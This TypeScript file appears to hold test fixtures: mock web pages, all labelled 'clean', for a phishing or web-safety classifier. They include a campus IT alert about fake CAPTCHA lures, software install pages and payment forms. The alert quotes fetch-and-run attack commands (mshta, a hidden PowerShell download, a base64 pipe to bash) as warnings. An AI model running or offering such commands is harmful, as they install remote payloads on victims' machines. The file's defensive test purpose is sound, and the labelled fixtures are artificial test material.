import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { fileRoute, jsRoute, jsonRoute, pe, pngRoute } from '../parts/e-bin.js';
import { campusCss, campusPage, cardFields, doc, esc } from '../parts/zt-kit.js';

export const entries: Entry[] = [
{
  id: 'zt-clean-it-article-clickfix',
  label: 'clean',
  kind: 'security-article',
  url: 'https://it.northgate.edu/security/alerts/2025-09-fake-captcha-paste-commands',
  body: campusPage('Alert: fake CAPTCHA pages that ask you to paste commands | Northgate IT Security', `
<h1>Alert: fake "I'm not a robot" pages that ask you to paste a command</h1>
<p><i>Posted September 22, 2025 by the Information Security Office</i></p>
<p>Several compromised lab and journal websites are showing a fake CAPTCHA. When you click the checkbox, the page silently copies a command to your clipboard and tells you to press <b>Windows + R</b>, <b>Ctrl + V</b> and <b>Enter</b>. Real CAPTCHAs never ask you to run anything.</p>
<p>Example of what gets pasted (do not run):</p>
<pre>${esc('mshta https://cdn-verify-captcha.com/v/7741a.hta # ✅ "I am not a robot - reCAPTCHA Verification ID: 7741"')}</pre>
<pre>${esc('powershell -w h -ep bypass -c "iex (New-Object Net.WebClient).DownloadString(\'https://meet-fix.cdn-audio.net/fix.ps1\')"')}</pre>
<p>On macOS the same trick asks you to open Terminal and paste something like <code>${esc('echo Y3VybCAtcyBodHRw... | base64 -d | bash')}</code>.</p>
<h2>If you ran it</h2><ol><li>Disconnect from the network (unplug or turn off Wi-Fi).</li><li>Call the Service Desk at (269) 555-4357 and say "security incident".</li><li>Change your NetID password from a different device.</li></ol>`),
},
{
  id: 'zt-clean-awareness-example-lures',
  label: 'clean',
  kind: 'security-awareness',
  url: 'https://it.northgate.edu/security/awareness/spot-the-phish',
  body: campusPage('Spot the Phish: examples from our inbox | Northgate IT', `
<h1>Spot the Phish: real lures our campus received</h1>
<p>Each card below is a screenshot-style reconstruction of a message reported to us. The links have been removed.</p>
<div style="display:grid;grid-template-columns:1fr 1fr;gap:18px">
 <div style="border:1px solid #ccc;padding:14px"><b>"You have a new voicemail (0:47)"</b><div style="background:#f2f2f2;padding:10px;margin:8px 0">&#x25B6; Play Voice Message</div><p style="font-size:13px">Red flags: voicemail arrives as an HTML attachment; "sign in to listen" page is not on microsoft.com.</p></div>
 <div style="border:1px solid #ccc;padding:14px"><b>"Duo device registration expired"</b><div style="background:#f2f2f2;padding:10px;margin:8px 0">NetID: [______] Password: [______] Passcode: [______]</div><p style="font-size:13px">Red flags: Duo never asks for your password together with a passcode on one form.</p></div>
 <div style="border:1px solid #ccc;padding:14px"><b>"Congratulations! Scholarship award"</b><p style="font-size:13px">Real scholarships never charge a "processing fee". Check with the Office of Financial Aid.</p></div>
 <div style="border:1px solid #ccc;padding:14px"><b>QR code on a printed "MFA reset" flyer</b><p style="font-size:13px">IT never posts QR codes for password or MFA changes. Report flyers to security@northgate.edu.</p></div>
</div>
<p style="margin-top:20px"><a class="btn" href="https://it.northgate.edu/security/report">Report a suspicious message</a></p>`),
},
{
  id: 'zt-clean-nextflow-install',
  label: 'clean',
  kind: 'research-tool-download',
  url: 'https://www.nextflow.io/docs/latest/install.html',
  body: doc('Installation — Nextflow documentation', `
<div style="display:flex;font-family:Lato,Arial"><nav style="width:240px;background:#343131;color:#ddd;min-height:100vh;padding:20px"><b>Nextflow</b><ul style="font-size:14px"><li>Installation</li><li>Your first script</li><li>Processes</li><li>Executors</li></ul></nav>
<main style="padding:30px 50px;max-width:800px"><h1>Installation</h1>
<h2>Requirements</h2><p>Nextflow can be used on any POSIX-compatible system (Linux, macOS, etc). It requires Bash 3.2 (or later) and Java 17 (or later, up to 24).</p>
<h2>Install Nextflow</h2><ol><li>Download the executable package:<pre><code>curl -s https://get.nextflow.io | bash</code></pre></li><li>Make Nextflow executable:<pre><code>chmod +x nextflow</code></pre></li><li>Move it into an executable path, e.g.:<pre><code>mkdir -p $HOME/.local/bin/
mv nextflow $HOME/.local/bin/</code></pre></li><li>Confirm that Nextflow is installed correctly:<pre><code>nextflow info</code></pre></li></ol>
<p>Alternatively, install with Conda: <code>conda install -c bioconda nextflow</code>.</p></main></div>`),
},
{
  id: 'zt-clean-rstudio-download',
  label: 'clean',
  kind: 'research-tool-download',
  url: 'https://posit.co/download/rstudio-desktop/',
  body: doc('RStudio Desktop - Posit', `
<header style="padding:16px 30px;border-bottom:1px solid #eee;font:700 20px Arial;color:#447099">posit</header>
<main style="max-width:860px;margin:30px auto;font-family:Arial">
 <h1>RStudio Desktop</h1><p>Used by millions of people weekly, the RStudio integrated development environment (IDE) is a set of tools built to help you be more productive with R and Python.</p>
 <h2>1: Install R</h2><p>RStudio requires R 3.6.0+. <a href="https://cran.rstudio.com/">Download and install R from CRAN</a>.</p>
 <h2>2: Install RStudio</h2><p><a href="https://download1.rstudio.org/electron/windows/RStudio-2025.09.1-401.exe" style="background:#447099;color:#fff;padding:10px 20px;text-decoration:none">Download RStudio Desktop for Windows</a></p>
 <table border="1" cellpadding="6" style="border-collapse:collapse;font-size:14px"><tr><th>OS</th><th>Download</th><th>Size</th><th>SHA-256</th></tr>
 <tr><td>Windows 10/11</td><td><a href="https://download1.rstudio.org/electron/windows/RStudio-2025.09.1-401.exe">RStudio-2025.09.1-401.exe</a></td><td>265.78 MB</td><td>8e1c2f4a</td></tr>
 <tr><td>macOS 13+</td><td><a href="https://download1.rstudio.org/electron/macos/RStudio-2025.09.1-401.dmg">RStudio-2025.09.1-401.dmg</a></td><td>590.12 MB</td><td>b07a61d3</td></tr>
 <tr><td>Ubuntu 22/Debian 12</td><td><a href="https://download1.rstudio.org/electron/jammy/amd64/rstudio-2025.09.1-401-amd64.deb">rstudio-2025.09.1-401-amd64.deb</a></td><td>210.4 MB</td><td>4c9d0e77</td></tr></table>
</main>`),
  routes: { 'download1.rstudio.org/electron/windows/RStudio-2025.09.1-401.exe': fileRoute(pe({ x64: true, strings: ['RStudio', 'Posit Software, PBC', 'Nullsoft Install System'] }), 'application/octet-stream', 'RStudio-2025.09.1-401.exe') },
},
{
  id: 'zt-clean-miniforge-readme',
  label: 'clean',
  kind: 'research-tool-download',
  url: 'https://conda-forge.org/download/',
  body: doc('Download Miniforge | conda-forge', `
<main style="max-width:820px;margin:30px auto;font-family:Arial">
<h1>Miniforge</h1><p>Miniforge is the preferred conda-forge installer. It includes conda, mamba, and their dependencies, configured to use conda-forge as the default channel.</p>
<h2>Unix-like platforms (macOS, Linux &amp; WSL)</h2>
<pre><code>curl -L -O "https://github.com/conda-forge/miniforge/releases/latest/download/Miniforge3-$(uname)-$(uname -m).sh"
bash Miniforge3-$(uname)-$(uname -m).sh</code></pre>
<p>or, with wget:</p><pre><code>wget "https://github.com/conda-forge/miniforge/releases/latest/download/Miniforge3-$(uname)-$(uname -m).sh"
bash Miniforge3-$(uname)-$(uname -m).sh</code></pre>
<h2>Windows</h2><p>Download and execute the <a href="https://github.com/conda-forge/miniforge/releases/latest/download/Miniforge3-Windows-x86_64.exe">Windows installer</a>. Follow the prompts, taking note of the options to "Create start menu shortcuts" and "Add Miniforge3 to my PATH environment variable".</p>
</main>`),
},
{
  id: 'zt-clean-foundation-donation',
  label: 'clean',
  kind: 'donation-page',
  url: 'https://give.northgatehealth.org/childrens-hospital',
  body: doc("Give to Northgate Children's Hospital | Northgate Health Foundation", `
<header style="background:#5b1f2e;color:#fff;padding:16px 30px;font:600 20px Georgia,serif">Northgate Health Foundation</header>
<main style="max-width:760px;margin:24px auto;font-family:Arial">
<h1>Support Northgate Children's Hospital</h1>
<p>Your gift funds family housing, child-life specialists and pediatric research. The Northgate Health Foundation is a 501(c)(3) nonprofit (EIN 38-1234567); gifts are tax deductible to the extent allowed by law.</p>
<form method="post" action="/childrens-hospital/donate">
 <p>Gift amount: <label style="display:inline"><input type="radio" name="amt" value="50" style="width:auto"> $50</label> <label style="display:inline"><input type="radio" name="amt" value="100" style="width:auto" checked> $100</label> <label style="display:inline"><input type="radio" name="amt" value="250" style="width:auto"> $250</label> Other: <input name="other" style="width:100px"></p>
 <label><input type="checkbox" name="monthly" style="width:auto"> Make this a monthly gift</label>
 <label>Name</label><input name="name"><label>Email</label><input name="email" type="email">
 ${cardFields()}
 <button class="btn" style="margin-top:14px">Give now</button>
</form>
<p style="font-size:13px">Prefer to give by check or stock? Call (269) 555-3100. We never solicit donations by gift card, wire transfer, Zelle or cryptocurrency for individual patients.</p>
</main>`, { css: campusCss }),
},
{
  id: 'zt-clean-go-shortener-benefits',
  label: 'clean',
  kind: 'own-shortener',
  url: 'https://go.northgate.edu/benefits2026',
  routes: {
    'go.northgate.edu/benefits2026': redirectRoute(301, 'https://hr.northgate.edu/benefits/open-enrollment-2026'),
    'hr.northgate.edu/benefits/open-enrollment-2026': htmlRoute(campusPage('2026 Open Enrollment | Human Resources', `
<h1>2026 Benefits Open Enrollment: October 27 &ndash; November 14</h1>
<p>Review your medical, dental, vision and flexible spending elections for 2026. If you make no changes, your current medical and dental elections carry over; FSA elections do not.</p>
<ul><li>Enroll in <a href="https://wd5.myworkday.com/northgate/login.htmld">Workday</a> &rarr; Benefits &rarr; Change Benefits.</li><li>Compare plans: <a href="/benefits/2026-plan-comparison.pdf">2026 Plan Comparison (PDF)</a></li><li>Virtual info sessions: Oct 29 &amp; Nov 5, noon</li></ul>
<p class="note">HR will not email you a link to a separate enrollment site or ask you to "verify" your account. Questions: benefits@northgate.edu or (269) 555-2200.</p>`, { unit: 'Northgate University — Human Resources' })),
  },
},
{
  id: 'zt-clean-bot-check-library',
  label: 'clean',
  kind: 'bot-check',
  url: 'https://catalog.library.northgate.edu/discovery/search?query=any,contains,crispr',
  routes: {
    'catalog.library.northgate.edu/discovery/search': htmlRoute(doc('Just a moment...', `
<div style="font-family:system-ui;max-width:560px;margin:15vh auto;text-align:center">
 <h1 style="font-weight:500">catalog.library.northgate.edu</h1>
 <p>Verifying you are human. This may take a few seconds.</p>
 <div id="w" style="width:300px;height:65px;margin:auto;border:1px solid #ddd"></div>
 <p style="font-size:13px;color:#777">catalog.library.northgate.edu needs to review the security of your connection before proceeding.</p>
 <noscript>Enable JavaScript and cookies to continue</noscript>
</div>
<script src="https://challenges.cloudflare.com/turnstile/v0/api.js?onload=onT" async defer></script>
<script>
function onT(){turnstile.render('#w',{sitekey:'0x4AAAAAAAB5ngcatlib',callback:function(t){fetch('/cdn-cgi/challenge-platform/verify',{method:'POST',body:t}).then(function(){location.reload()})}})}
</script>`)),
    'challenges.cloudflare.com/turnstile/v0/api.js?s=2': jsRoute(`window.turnstile={render:function(el,o){var d=document.querySelector(el);d.innerHTML='<label style="display:flex;gap:8px;align-items:center;padding:18px"><input type="checkbox"> Verify you are human</label>';d.querySelector('input').onchange=function(){o.callback('XXXX.DUMMY.TOKEN')}}};if(window.onT)setTimeout(onT,0);`),
  },
},
{
  id: 'zt-clean-studentaid-gov-scam-warning',
  label: 'clean',
  kind: 'government-info',
  url: 'https://studentaid.gov/resources/scams',
  body: doc('Avoiding Student Aid Scams | Federal Student Aid', `
<div style="background:#112e51;color:#fff;padding:12px 26px;font:700 18px Arial">Federal Student Aid <span style="font-weight:400;font-size:13px">An Office of the U.S. Department of Education</span></div>
<main style="max-width:800px;margin:24px auto;font-family:Arial">
<h1>Avoiding Student Aid Scams</h1>
<p>You never have to pay for help with your federal student aid. Be wary of companies that charge upfront fees for student loan forgiveness or consolidation, ask for your FSA ID, or promise immediate loan forgiveness.</p>
<ul><li>Never share your FSA ID username and password.</li><li>We will never ask you for your account password.</li><li>Report scams to the Federal Trade Commission at <a href="https://reportfraud.ftc.gov/">ReportFraud.ftc.gov</a>.</li></ul>
<p><a href="https://studentaid.gov/fsa-id/sign-in/landing" style="background:#0071bc;color:#fff;padding:10px 22px;text-decoration:none">Log In</a></p>
</main>`),
},
{
  id: 'zt-clean-financial-aid-scholarships',
  label: 'clean',
  kind: 'own-portal',
  url: 'https://finaid.northgate.edu/scholarships',
  body: campusPage('Scholarships | Office of Financial Aid', `
<h1>Scholarships</h1>
<p>Apply once through <b>NorthgateAward</b> to be considered for more than 400 institutional scholarships. The 2026&ndash;27 application opens December 1 and closes February 15.</p>
<p><a class="btn" href="https://northgate.academicworks.com/users/sign_in">Log in to NorthgateAward with your NetID</a></p>
<h2>Outside scholarships</h2><p>Search free databases such as the U.S. Department of Labor's scholarship finder. Legitimate scholarships do not charge application or "processing" fees and never ask for bank passwords. Report suspicious offers to finaid@northgate.edu.</p>`, { unit: 'Northgate University — Financial Aid' }),
},
{
  id: 'zt-clean-siwe-research-dapp',
  label: 'clean',
  kind: 'crypto-app',
  url: 'https://dapp.blockchainlab.northgate.edu/',
  body: doc('Northgate Blockchain Lab — Data Provenance Demo', `
<main style="max-width:720px;margin:40px auto;font-family:Inter,Arial">
<h1>Clinical data provenance demo (Sepolia testnet)</h1>
<p>This prototype anchors hashes of de-identified dataset releases on the Ethereum Sepolia testnet. Sign in with Ethereum to view your lab's releases. Signing in creates no transaction and costs nothing.</p>
<button id="c">Sign in with Ethereum</button> <span id="s"></span>
<pre id="out" style="background:#f4f4f4;padding:10px"></pre>
</main>
<script>
document.getElementById('c').onclick=async function(){
 if(!window.ethereum){s.textContent='No wallet detected. Install a wallet extension to continue.';return}
 const [addr]=await ethereum.request({method:'eth_requestAccounts'});
 const chain=await ethereum.request({method:'eth_chainId'});
 if(chain!=='0xaa36a7'){await ethereum.request({method:'wallet_switchEthereumChain',params:[{chainId:'0xaa36a7'}]})}
 const nonce=(await (await fetch('/api/nonce')).json()).nonce;
 const msg='dapp.blockchainlab.northgate.edu wants you to sign in with your Ethereum account:\\n'+addr+'\\n\\nSign in to the Data Provenance Demo.\\n\\nURI: https://dapp.blockchainlab.northgate.edu\\nVersion: 1\\nChain ID: 11155111\\nNonce: '+nonce+'\\nIssued At: '+new Date().toISOString();
 const sig=await ethereum.request({method:'personal_sign',params:[msg,addr]});
 const r=await fetch('/api/verify',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({msg,sig})});
 out.textContent=JSON.stringify(await r.json(),null,2);
};
</script>`),
  routes: { 'dapp.blockchainlab.northgate.edu/api/nonce': jsonRoute({ nonce: 'k2j9Xq81aa' }) },
},
{
  id: 'zt-clean-bookstore-checkout',
  label: 'clean',
  kind: 'checkout',
  url: 'https://shop.northgatebookstore.com/checkout/payment',
  body: doc('Checkout — Northgate Campus Store', `
<header style="background:#5b1f2e;color:#fff;padding:14px 26px;font:600 18px Arial">Northgate Campus Store</header>
<main style="max-width:900px;margin:24px auto;font-family:Arial;display:flex;gap:30px">
 <form method="post" action="/checkout/payment/submit" style="flex:2">
  <h2>Payment</h2>
  <label><input type="radio" name="pm" value="card" checked style="width:auto"> Credit / debit card</label>
  <label><input type="radio" name="pm" value="dining" style="width:auto"> Northgate Dining Dollars (students)</label>
  ${cardFields()}
  <button class="btn" style="margin-top:14px">Place order</button>
 </form>
 <aside style="flex:1;background:#f6f6f6;padding:16px"><h3>Order summary</h3><p>Northgate Medicine Hoodie (M) &mdash; $54.99</p><p>Campbell Biology, 12th ed. (rental) &mdash; $68.00</p><p>Tax &mdash; $7.38</p><p><b>Total $130.37</b></p></aside>
</main>`, { css: campusCss }),
},
{
  id: 'zt-clean-parking-permit-pay',
  label: 'clean',
  kind: 'checkout',
  url: 'https://parking.northgate.edu/permits/purchase',
  body: campusPage('Buy a Parking Permit | Parking & Transportation', `
<h1>Purchase a 2025&ndash;26 parking permit</h1>
<p>Logged in as <b>jdoe42</b> (Staff). <a href="/logout">Log out</a></p>
<form method="post" action="/permits/purchase/confirm">
 <label>Permit</label><select name="permit"><option>Blue Lot &mdash; Staff annual ($480)</option><option>Medical Center Garage &mdash; monthly payroll deduction ($62/mo)</option></select>
 <label>License plate</label><input name="plate"><label>State</label><input name="state" value="MI">
 ${cardFields()}
 <button class="btn" style="margin-top:14px">Pay and issue permit</button>
</form>
<p style="font-size:13px">Parking Services will never text you about unpaid tickets with a payment link. Pay citations only at parking.northgate.edu.</p>`, { unit: 'Parking & Transportation Services' }),
},
{
  id: 'zt-clean-research-data-csv-export',
  label: 'clean',
  kind: 'blob-download-app',
  url: 'https://redcap.northgatehealth.org/redcap_v14.5.3/DataExport/index.php?pid=1184',
  body: doc('REDCap | Data Exports, Reports, and Stats', `
<div style="background:#8b0000;color:#fff;padding:10px 20px;font-family:Arial"><b>REDCap</b> &middot; Project: Pediatric Asthma Registry (PID 1184)</div>
<main style="max-width:800px;margin:24px auto;font-family:Arial">
<h2>Data Exports, Reports, and Stats</h2>
<p>Export report "A: All data (all records and fields)" &mdash; 1,284 records. Exports are de-identified according to your user rights.</p>
<button id="x">Export as CSV</button> <button id="y">Export data dictionary</button>
</main>
<script>
function dl(name,text){var b=new Blob([text],{type:'text/csv;charset=utf-8'});var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download=name;document.body.appendChild(a);a.click();setTimeout(function(){URL.revokeObjectURL(a.href);a.remove()},500)}
document.getElementById('x').onclick=function(){fetch('/redcap_v14.5.3/api/?content=report&report_id=ALL&format=json').then(function(r){return r.json()}).then(function(rows){var h=Object.keys(rows[0]||{});dl('PediatricAsthmaRegist_DATA_2025-10-14.csv',[h.join(',')].concat(rows.map(function(r){return h.map(function(k){return r[k]}).join(',')})).join('\\n'))})};
document.getElementById('y').onclick=function(){dl('PediatricAsthmaRegist_DataDictionary.csv','Variable / Field Name,Form Name,Field Type\\nrecord_id,demographics,text\\nage_months,demographics,text\\nfev1,spirometry,text')};
</script>`),
  routes: { 'redcap.northgatehealth.org/redcap_v14.5.3/api/': jsonRoute([{ record_id: '1', age_months: '74', fev1: '1.42' }, { record_id: '2', age_months: '102', fev1: '1.88' }]) },
},
];
